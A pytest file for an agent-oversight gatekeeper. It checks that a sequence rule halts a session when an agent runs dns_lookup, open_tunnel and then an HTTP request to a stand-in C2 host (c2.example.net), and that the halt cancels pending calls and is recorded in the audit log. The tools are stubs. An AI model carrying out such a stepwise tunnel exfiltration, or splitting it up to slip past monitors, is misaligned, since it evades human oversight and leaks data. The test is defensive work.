"""The seed's scenario, end to end: an agent tunnels out one harmless-looking call at a time.

Two agent processes (real ``python -c`` processes with the agent's gate from
a gatekeeper.yaml on a real Redis) share one session. One looks up a host,
the other opens a tunnel, the first then sends a request to an outside host.
Each call alone is allowed; the sequence ``dns_lookup -> open_tunnel ->
http_request`` within 10 minutes is a halt. The third call must be halted
before it runs, the halt must cancel the session's pending requests, and the
approver must see why: the sequence and the earlier calls that made it.
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from gatekeeper import Gatekeeper
from gatekeeper.audit import parse_event
from gatekeeper.models import RequestStatus
from tests.conftest import RedisServer

CONFIG = """\
version: 1
store: {{url: "{url}", prefix: {prefix}}}
approvers:
  - {{name: alice}}
defaults: {{timeout: 60s, agent: trainer}}
policy:
  version: 1
  default: allow
  rules:
    - id: deploys-need-a-person
      match: {{tool: deploy}}
      verdict: require_approval
  sequences:
    - id: tunnel-exfiltration
      steps:
        - {{tool: dns_lookup}}
        - {{tool: open_tunnel}}
        - {{tool: http_request, args: {{url: {{host_not_in: [api.internal.example]}}}}}}
      within: 10m
      per: session
      verdict: halt
      reason: looks like data leaving through a tunnel
"""

AGENT = textwrap.dedent(
    """
    import json, sys
    from gatekeeper import Gatekeeper
    config, ledger, session, tool, arg = sys.argv[1:6]
    gate = Gatekeeper.from_config(config)

    def ran(line):
        with open(ledger, "a") as f:
            f.write(line + "\\n")
        return "done"

    @gate.guard
    def dns_lookup(host: str) -> str:
        return ran("dns_lookup " + host)

    @gate.guard
    def open_tunnel(endpoint: str) -> str:
        return ran("open_tunnel " + endpoint)

    @gate.guard
    def http_request(url: str) -> str:
        return ran("http_request " + url)

    @gate.guard
    def deploy(target: str) -> str:
        return ran("deploy " + target)

    fn = globals()[tool]
    try:
        with gate.session(session_id=session):
            print(json.dumps({"result": fn(arg)}), flush=True)
    except Exception as exc:
        print(json.dumps({"error": type(exc).__name__, "message": str(exc)}), flush=True)
    """
)


@pytest.fixture
def setup(tmp_path: Path, redis_server: RedisServer, redis_prefix: str) -> tuple[Path, Path]:
    config = tmp_path / "gatekeeper.yaml"
    config.write_text(CONFIG.format(url=redis_server.url, prefix=redis_prefix))
    return config, tmp_path / "ledger"


def agent(config: Path, ledger: Path, session: str, tool: str, arg: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", AGENT, str(config), str(ledger), session, tool, arg],
        stdout=subprocess.PIPE,
        text=True,
    )


def answer(proc: subprocess.Popen[str]) -> dict[str, str]:
    out, _ = proc.communicate(timeout=60)
    answer: dict[str, str] = json.loads(out.strip().splitlines()[-1])
    return answer


def test_two_processes_of_one_session_are_halted_before_the_third_step_runs(
    setup: tuple[Path, Path],
) -> None:
    config, ledger = setup
    gate = Gatekeeper.from_config(config)  # the approver's side
    session = "run-42"
    # A deploy waits for a person in the same session: the halt must cancel it.
    waiting = agent(config, ledger, session, "deploy", "prod")
    deadline = time.monotonic() + 30
    while not gate.pending():
        assert time.monotonic() < deadline, "the deploy was never held"
        time.sleep(0.05)
    (deploy,) = gate.pending()

    assert answer(agent(config, ledger, session, "dns_lookup", "c2.example.net")) == {
        "result": "done"
    }
    assert answer(agent(config, ledger, session, "open_tunnel", "c2.example.net:443")) == {
        "result": "done"
    }
    third = answer(agent(config, ledger, session, "http_request", "https://c2.example.net/up"))

    assert third["error"] == "AgentHalted"
    assert "tunnel-exfiltration" in third["message"]
    assert "dns_lookup → open_tunnel" in third["message"]
    ran = ledger.read_text().splitlines()
    assert ran == ["dns_lookup c2.example.net", "open_tunnel c2.example.net:443"]

    # The session is halted: its waiting deploy was cancelled and never ran.
    assert answer(waiting)["error"] == "AgentHalted"
    assert gate.get(deploy.id).status is RequestStatus.CANCELLED
    assert [h.target for h in gate.store.halts()] == [session]
    # ... and the next call in that session is refused at once.
    again = answer(agent(config, ledger, session, "dns_lookup", "example.org"))
    assert again["error"] == "AgentHalted"
    assert ledger.read_text().splitlines() == ran

    # The audit log says why, with the earlier calls that matched the steps.
    gate.store.flush()
    events = [parse_event(e.body, e.hash) for e in gate.store.audit_entries()]
    (denied,) = [e for e in events if e.kind == "call.denied" and e.tool == "http_request"]
    (hit,) = denied.data["behaviour"]
    assert hit["id"] == "tunnel-exfiltration"
    assert [c["tool"] for c in hit["calls"]] == ["dns_lookup", "open_tunnel"]


def test_another_session_of_the_same_agent_is_not_caught(setup: tuple[Path, Path]) -> None:
    config, ledger = setup
    assert answer(agent(config, ledger, "a", "dns_lookup", "h"))["result"] == "done"
    assert answer(agent(config, ledger, "b", "open_tunnel", "h:1"))["result"] == "done"
    assert answer(agent(config, ledger, "a", "http_request", "https://h/x"))["result"] == "done"


def test_an_allowlisted_host_is_not_the_third_step(setup: tuple[Path, Path]) -> None:
    config, ledger = setup
    for tool, arg in (
        ("dns_lookup", "h"),
        ("open_tunnel", "h:1"),
        ("http_request", "https://api.internal.example/x"),
    ):
        assert answer(agent(config, ledger, "s", tool, arg))["result"] == "done"
